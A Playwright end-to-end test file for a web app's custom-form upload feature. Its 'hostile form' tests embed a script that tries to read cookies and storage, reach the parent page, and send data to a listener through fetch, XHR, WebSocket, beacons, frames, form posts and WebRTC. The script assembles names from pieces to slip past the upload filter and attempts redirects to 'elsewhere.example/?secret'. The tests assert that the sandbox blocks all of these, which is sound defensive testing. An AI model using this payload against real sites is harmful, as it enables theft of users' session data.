import { once } from 'node:events'
import { createServer } from 'node:http'
import { listFolders } from '@cairn/contract/folders'
import { createForm, listForms } from '@cairn/contract/forms/forms'
import { listLayers } from '@cairn/contract/layers'
import { expect, test } from '../journey.ts'
import { seedProject } from '../seeds.ts'
import { signInAt } from '../sign-in.ts'

const address = '/settings/data/manage-forms'

const html = `<!doctype html><html><head><title>Inspection</title></head><body>
  <label>Depth <input name="depth" type="number" required></label><output id="double"></output></body></html>`
const script = `document.querySelector('[name=depth]').addEventListener('input', ({ target }) => {
  document.querySelector('#double').textContent = 'Twice: ' + 2 * target.value
})`

test('an admin adds a form, grants it to a project and fills it in', async ({ page, api, emails }) => {
  const admin = api('stranger')
  const project = await seedProject(admin, 'Forms project')
  const name = `Inspection ${crypto.randomUUID().slice(0, 8)}`
  const dialog = page.getByRole('dialog')
  await signInAt(page, address, emails.stranger)

  await test.step('add the form of its files', async () => {
    await page.getByRole('button', { name: 'Add form' }).first().click()
    await dialog.getByLabel('Name').fill(name)
    await dialog.getByLabel('Choose HTML file').last().setInputFiles(file('inspection.html', html))
    await dialog.getByLabel('Choose JavaScript file').last().setInputFiles(file('inspection.js', script))
    await dialog.getByRole('button', { name: 'Add form' }).click()
    await expect(page.getByText(`Form “${name}” added.`)).toBeVisible()
  })

  await test.step('fill it in', async () => {
    await page.getByRole('button', { name, exact: true }).click()
    const form = dialog.frameLocator('iframe')
    await form.getByLabel('Depth').fill('21')
    await expect(form.getByText('Twice: 42')).toBeVisible()
  })

  await test.step('grant it', async () => {
    await dialog.getByRole('tab', { name: 'Projects' }).click()
    await dialog.getByRole('checkbox', { name: project.name }).check()
    await expect(dialog.getByText(/^1 of /)).toBeVisible()
    const folders = await admin(listFolders, { query: { projectId: project.id } })
    const folder = folders.find(({ folderType }) => folderType === 2)
    expect(await admin(listLayers, { query: { folderId: folder?.id ?? '' } })).toMatchObject([{ name }])
  })
})

const file = (name: string, text: string) => ({ name, mimeType: 'text/plain', buffer: Buffer.from(text) })

/** Each attempt notes how it failed. `reached` notes one that did not. */
const hostile = `
  const outcomes = {}
  const note = (name, act) => {
    try { act(); outcomes[name] = 'reached' } catch (error) { outcomes[name] = error.name }
  }
  const later = (name, promise) =>
    promise.then(() => { outcomes[name] = 'reached' }, () => { outcomes[name] = 'refused' })
  const element = (name, properties) => new Promise((resolve, reject) => {
    const made = Object.assign(document.createElement(name), properties, { onload: resolve, onerror: reject })
    document.body.append(made)
  })
  outcomes.origin = self.origin
  note('cookie', () => document.cookie)
  note('localStorage', () => localStorage.length)
  note('indexedDB', () => indexedDB.open('x'))
  note('parentDocument', () => parent.document.body)
  note('parentStorage', () => parent.localStorage.length)
  note('topNavigation', () => { top.location = 'http://' + here })
  note('popup', () => { if (!window.open('http://' + here)) throw { name: 'blocked' } })
  note('serviceWorker', () => navigator.serviceWorker.register('/x.js'))
  navigator.sendBeacon('http://' + here)
  note('eval', () => eval('1'))
  const attempts = [
    later('fetch', fetch('http://' + here, { mode: 'no-cors' })),
    later('xhr', new Promise((resolve, reject) => {
      const request = Object.assign(new XMLHttpRequest(), { onload: resolve, onerror: reject })
      request.open('GET', 'http://' + here + '/stolen-xhr')
      request.send()
    })),
    later('socket', new Promise((resolve, reject) => {
      Object.assign(new WebSocket('ws://' + here + '/stolen-socket'), { onopen: resolve, onerror: reject })
    })),
    later('image', element('img', { src: 'http://' + here + '/stolen-image' })),
    later('script', element('script', { src: 'http://' + here + '/stolen-script' })),
    later('style', element('link', { rel: 'stylesheet', href: 'http://' + here + '/stolen-style' })),
  ]
  for (const rel of ['preconnect', 'dns-prefetch', 'prefetch', 'preload'])
    document.head.append(Object.assign(document.createElement('link'), { rel, as: 'image', href: 'http://' + here + '/stolen-' + rel }))
  // The upload refuses the plain names.
  note('webrtc', () => new self[['RTC', 'PeerConnection'].join('')]())
  const nested = ['i', 'frame'].join('')
  document.body.append(Object.assign(document.createElement(nested), { src: 'http://' + here + '/stolen-frame' }))
  const form = Object.assign(document.createElement('form'), { action: 'http://' + here, method: 'post' })
  document.body.append(form)
  form.submit()
  const link = Object.assign(document.createElement('a'), { href: 'http://' + here, target: '_top' })
  document.body.append(link)
  link.click()
  Promise.allSettled(attempts).then(() => { document.querySelector('output').textContent = JSON.stringify(outcomes) })
`

/** A server of its own, which counts the connections to it. */
async function listen() {
  let connections = 0
  const server = createServer((_, reply) => reply.end()).on('connection', () => (connections += 1))
  await once(server.listen(0, '127.0.0.1'), 'listening')
  const bound = server.address()
  const port = typeof bound === 'object' && bound !== null ? bound.port : 0
  async function close(): Promise<number> {
    server.close()
    server.closeAllConnections()
    return connections
  }
  return { host: `127.0.0.1:${port}`, close }
}

test.describe('a hostile form', () => {
  // The browser reports each refusal.
  test.use({
    allowedMessage:
      /Content Security Policy|sandbox|Blocked|Refused|Unsafe attempt|ERR_BLOCKED|Failed to load|Framing|net::/i,
  })

  test('reaches neither the application nor the network', async ({ page, api, emails }) => {
    const admin = api('stranger')
    const name = `Hostile ${crypto.randomUUID().slice(0, 8)}`
    const listener = await listen()
    const text = `<output></output><script>const here = ${JSON.stringify(listener.host)};${hostile}</script>`
    const upload = { htmlFile: new File([text], 'hostile.html'), dto: { name } }
    await admin(createForm, { query: {}, body: upload })
    const popups: string[] = []
    page.context().on('page', (popup) => popups.push(popup.url()))
    await signInAt(page, address, emails.stranger)
    await page.getByRole('button', { name, exact: true }).click()
    const output = page.getByRole('dialog').frameLocator('iframe').locator('output')
    await expect(output).not.toBeEmpty()
    const outcomes = (await output.textContent()) ?? ''
    expect([...outcomes.matchAll(/"(\w+)":"reached"/g)].map(([, attempt]) => attempt)).toEqual([])
    expect(JSON.parse(outcomes)).toMatchObject({ origin: 'null', cookie: 'SecurityError', fetch: 'refused' })
    expect(popups).toEqual([])
    expect(await listener.close()).toBe(0)
    expect(new URL(page.url()).pathname).toBe(address)
    expect((await admin(listForms, { query: { search: name } })).totalCount).toBe(1)
  })

  test('does not leave its page', async ({ page, api, emails }) => {
    const admin = api('stranger')
    const target = 'http://elsewhere.example/?secret'
    const leave = (act: string) => `<a href="${target}">x</a><script>cairnForm.onLoad(() => { ${act} })</script>`
    const ways = {
      script: leave(`location = '${target}'`),
      link: leave(`document.querySelector('a').click()`),
      refresh: leave(`document.head.append(Object.assign(document.createElement('meta'),
        { httpEquiv: 'refresh', content: '0; url=${target}' }))`),
    }
    const sent: string[] = []
    page.context().on('request', (request) => {
      if (request.url().includes('elsewhere')) sent.push(request.url())
    })
    const suffix = crypto.randomUUID().slice(0, 8)
    for (const [way, text] of Object.entries(ways))
      await admin(createForm, {
        query: {},
        body: { htmlFile: new File([text], 'a.html'), dto: { name: `${way} ${suffix}` } },
      })
    await signInAt(page, address, emails.stranger)
    for (const way of Object.keys(ways)) {
      const name = `${way} ${suffix}`
      await page.getByRole('button', { name, exact: true }).click()
      await expect(page.getByRole('alert').filter({ hasText: name })).toContainText('left its page')
      await page.getByRole('dialog').getByRole('button', { name: 'Close' }).last().click()
      await expect(page.getByRole('dialog')).toHaveCount(0)
    }
    expect(sent).toEqual([])
  })
})
